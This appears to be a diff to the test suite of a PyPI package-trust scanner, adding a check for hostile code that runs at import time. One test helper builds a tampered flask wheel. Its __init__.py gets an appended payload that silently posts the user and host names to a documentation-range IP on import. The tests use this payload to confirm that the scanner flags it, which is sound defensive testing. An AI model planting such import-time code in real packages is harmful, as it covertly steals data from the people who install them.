@@ -13,6 +13,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { CHECKS } from '../../src/checks/index.js';
 import type { Report } from '../../src/report/schema.js';
 import { servePypiFiles } from '../support/pypi-files.js';
+import { inflateRawSync } from 'node:zlib';
+import { centralDirectoryEntries, localDataStart, locateCentralDirectory } from '../../src/sources/pypi/zip-directory.js';
 import { makeZip } from '../support/zip.js';
 import { expectNoUnexpected, startFixtureServer, type FixtureServer, type RecordedRequest } from '../support/fixture-server.js';
 import { runCli, type CliResult } from '../support/run-cli.js';
@@ -103,12 +105,12 @@ interface Expected {
  */
 const EXPECTED: Expected[] = [
   { input: 'pypi:flask', version: '3.1.3', score: 86.8, grade: 'A', verdict: 'YES', coverage: 0.74, exit: 0 },
-  { input: 'pypi:black==21.11b0', version: '21.11b0', score: 49.9, grade: 'D', verdict: 'NO — USE WITH CAUTION', coverage: 0.633, exit: 1 },
+  { input: 'pypi:black==21.11b0', version: '21.11b0', score: 49.9, grade: 'D', verdict: 'NO — USE WITH CAUTION', coverage: 0.619, exit: 1 },
   { input: 'pypi:trackpy', version: '0.4.1', score: 48.8, grade: 'D', verdict: 'NO — USE WITH CAUTION', coverage: 0.626, exit: 1 },
-  { input: 'pypi:filecache', version: '0.81', score: 55.4, grade: 'D', verdict: 'CAUTION', coverage: 0.626, exit: 0 },
-  { input: 'pypi:nerq-fixture-inactive', version: '1.2.0', score: 49.9, grade: 'D', verdict: 'NO — USE WITH CAUTION', coverage: 0.91, exit: 1 },
-  { input: 'pypi:nerq-fixture-freetext', version: '2.0.0', score: 68.9, grade: 'C', verdict: 'CAUTION', coverage: 0.912, exit: 0 },
-  { input: 'pypi:nerq-fixture-archived', version: '1.3.0', score: 49.9, grade: 'D', verdict: 'NO — USE WITH CAUTION', coverage: 0.952, exit: 1 },
+  { input: 'pypi:filecache', version: '0.81', score: 55.4, grade: 'D', verdict: 'CAUTION', coverage: 0.61, exit: 0 },
+  { input: 'pypi:nerq-fixture-inactive', version: '1.2.0', score: 49.9, grade: 'D', verdict: 'NO — USE WITH CAUTION', coverage: 0.888, exit: 1 },
+  { input: 'pypi:nerq-fixture-freetext', version: '2.0.0', score: 68.9, grade: 'C', verdict: 'CAUTION', coverage: 0.891, exit: 0 },
+  { input: 'pypi:nerq-fixture-archived', version: '1.3.0', score: 49.9, grade: 'D', verdict: 'NO — USE WITH CAUTION', coverage: 0.931, exit: 1 },
 ];
 
 describe('the PyPI fixture projects under NERQ_NOW=2026-11-30', () => {
@@ -175,7 +177,8 @@ describe('the PyPI fixture projects under NERQ_NOW=2026-11-30', () => {
       expect(report.target.purl).toBe(`pkg:pypi/${project}@${fixture.version}`);
       expect(report.dimensions.map((d) => d.id)).toEqual([...DIMENSION_IDS]);
       const ids = report.checks.map((c) => c.id);
-      for (const id of PYPI_ONLY) expect(ids, id).toContain(id);
+      // import-time-code leaves itself out when there is nothing to find (clean import code, no wheel).
+      for (const id of PYPI_ONLY.filter((id) => id !== 'import-time-code')) expect(ids, id).toContain(id);
       for (const id of NPM_ONLY) expect(ids, id).not.toContain(id);
       for (const check of report.checks) expect({ id: check.id, status: check.status }).toEqual({ id: check.id, status: statusForScore(check.score) });
       // Sources of an npm package (registry, tarball) are left out; PyPI's are there.
@@ -224,7 +227,8 @@ describe('the PyPI fixture projects under NERQ_NOW=2026-11-30', () => {
         '/pypi/simple/flask/',
         '/pypi/integrity/flask/3.1.3/flask-3.1.3.tar.gz/provenance',
         '/pypistats/packages/flask/recent',
-        `/pypi-files/packages/7f/9c/34f6962f9b9e9c71f6e5ed806e0d0ff03c9d1b0b2340088a0cf4bce09b18/flask-3.1.3-py3-none-any.whl`,
+        // The wheel's tail (central directory), flask/__init__.py, then the modules it imports (import-time-code).
+        ...Array.from({ length: 3 }, () => `/pypi-files/packages/7f/9c/34f6962f9b9e9c71f6e5ed806e0d0ff03c9d1b0b2340088a0cf4bce09b18/flask-3.1.3-py3-none-any.whl`),
         ...['blinker', 'click', 'importlib-metadata', 'itsdangerous', 'jinja2', 'markupsafe', 'werkzeug'].map(projectJsonPath),
       ].sort(),
     );
@@ -242,9 +246,12 @@ describe('the PyPI fixture projects under NERQ_NOW=2026-11-30', () => {
     expect(checkOf(report, 'license-declared')).toMatchObject({ score: 100, evidence: { declaredIn: 'license_expression', license: 'BSD-3-Clause' } });
     expect(checkOf(report, 'type-declarations')).toMatchObject({ score: 100, messageId: 'typed-classifier' });
     expect(checkOf(report, 'wheels-published').score).toBe(100);
-    // Its central directory is in the wheel's last 32 KiB: one range request, no .pth file.
+    // Its central directory is in the wheel's last 32 KiB: one range request, no .pth file; then
+    // one range for flask/__init__.py, the archive's first entry, and one for the modules it
+    // imports from flask; all clean: import-time-code leaves itself out of the report.
     expect(checkOf(report, 'startup-hooks')).toMatchObject({ score: 100, messageId: 'none', evidence: { wheel: 'flask-3.1.3-py3-none-any.whl', entries: 31 } });
-    expect(requests.filter((r) => r.path.startsWith('/pypi-files/')).map((r) => r.headers.range)).toEqual(['bytes=-32768']);
+    expect(requests.filter((r) => r.path.startsWith('/pypi-files/')).map((r) => r.headers.range)).toEqual(['bytes=-32768', 'bytes=0-1079', expect.stringMatching(/^bytes=\d+-\d+$/)]);
+    expect(report.checks.map((c) => c.id)).not.toContain('import-time-code');
     expect(checkOf(report, 'yanked-release').score).toBe(100);
     expect(report.caps).toEqual([]);
   });
@@ -455,7 +462,7 @@ describe('an advisory for the resolved release: pypi:flask==2.3.1 and PYSEC-2023
       score: 49.9,
       grade: 'D',
       verdict: 'NO — USE WITH CAUTION',
-      coverage: 0.715,
+      coverage: 0.698,
       exit: 1,
     });
   });
@@ -632,7 +639,7 @@ describe('pypi:flask whose wheel installs a hostile .pth (an edit of its recorde
     }
   });
 
-  it('evidence saved before nerq read wheels re-scores with startup-hooks unknown', async () => {
+  it('evidence saved before nerq read wheels re-scores with startup-hooks and import-time-code unknown', async () => {
     const file = path.join(evidenceDir, 'flask.json');
     const saved = JSON.parse(readFileSync(file, 'utf8')) as { sources: { pypi: { facts: Record<string, unknown> } } };
     delete saved.sources.pypi.facts.wheelContents;
@@ -642,6 +649,64 @@ describe('pypi:flask whose wheel installs a hostile .pth (an edit of its recorde
     expect(rescored.code).toBe(0);
     const again = parseReport(rescored.stdout);
     expect(checkOf(again, 'startup-hooks')).toMatchObject({ score: null, messageId: 'unread' });
+    expect(checkOf(again, 'import-time-code')).toMatchObject({ score: null, messageId: 'unread' });
     expect(again.verdict).toBe('YES');
   });
+});
+
+/**
+ * flask's recorded wheel, every entry as published but `flask/__init__.py`, whose real text gets
+ * a payload appended (an edit, in the shape of the tenserflow and python-mysql uploads in
+ * fixtures/import-code/guarddog/exfiltrate-sensitive-data.py): the user and host names posted
+ * to a server the moment `import flask` runs.
+ */
+function flaskWithPayload(): Buffer {
+  const real = readFileSync(new URL('../../fixtures/http/pypi-files/packages/7f/9c/34f6962f9b9e9c71f6e5ed806e0d0ff03c9d1b0b2340088a0cf4bce09b18/flask-3.1.3-py3-none-any.whl', import.meta.url));
+  const location = locateCentralDirectory(real, real.length);
+  if (!location.ok) throw new Error(location.reason);
+  const listed = centralDirectoryEntries(real.subarray(location.value.offset, location.value.offset + location.value.size), 1000);
+  if (!listed.ok) throw new Error(listed.reason);
+  const inputs = listed.value.map((entry) => {
+    const local = real.subarray(entry.localHeaderOffset);
+    const start = localDataStart(local);
+    if (!start.ok) throw new Error(start.reason);
+    const raw = local.subarray(start.value, start.value + entry.compressedSize);
+    const data = entry.method === 8 ? inflateRawSync(raw) : raw;
+    if (entry.name !== 'flask/__init__.py') return { name: entry.name, data };
+    const payload = [
+      'import getpass as _g, socket as _s, json as _j, urllib.request as _u',
+      'def _p():',
+      '    data = {"user": _g.getuser(), "host": _s.gethostname()}',
+      '    _u.urlopen(_u.Request("http://198.51.100.7/c", data=_j.dumps(data).encode()))',
+      'try:',
+      '    _p()',
+      'except Exception:',
+      '    pass',
+    ].join('\n');
+    return { name: entry.name, data: `${data.toString('utf8')}\n${payload}\n` };
+  });
+  return makeZip(inputs);
+}
+
+describe('pypi:flask whose __init__.py sends the user and host names on import (an edit of its recorded wheel)', () => {
+  const FLASK_WHEEL = 'packages/7f/9c/34f6962f9b9e9c71f6e5ed806e0d0ff03c9d1b0b2340088a0cf4bce09b18/flask-3.1.3-py3-none-any.whl';
+
+  it('import-time-code scores 0 and holds the verdict at CAUTION (flask is YES otherwise); startup-hooks stays 100', async () => {
+    requireBuiltCli();
+    const server = await startFixtureServer();
+    try {
+      expectPypiProject(server, pypiProject('flask'));
+      const files = servePypiFiles(server, { files: { [FLASK_WHEEL]: flaskWithPayload() } });
+      const result = await runCli(['check', 'pypi:flask', '--json'], { server, env: files });
+      const report = parseReport(result.stdout);
+      expect(checkOf(report, 'import-time-code')).toMatchObject({ score: 0, messageId: 'hostile', evidence: { flagged: ['flask/__init__.py'], flags: ['exfiltration', 'ip-endpoint'] } });
+      expect(checkOf(report, 'startup-hooks')).toMatchObject({ score: 100, messageId: 'none', evidence: { entries: 31 } });
+      expect(report.verdict).toBe('CAUTION');
+      expect(report.verdictReasonDetails.map((r) => r.code)).toContain('verdict-held');
+      expect(result.code).toBe(0);
+      expectNoUnexpected(server);
+    } finally {
+      await server.close();
+    }
+  }, 60_000);
 });
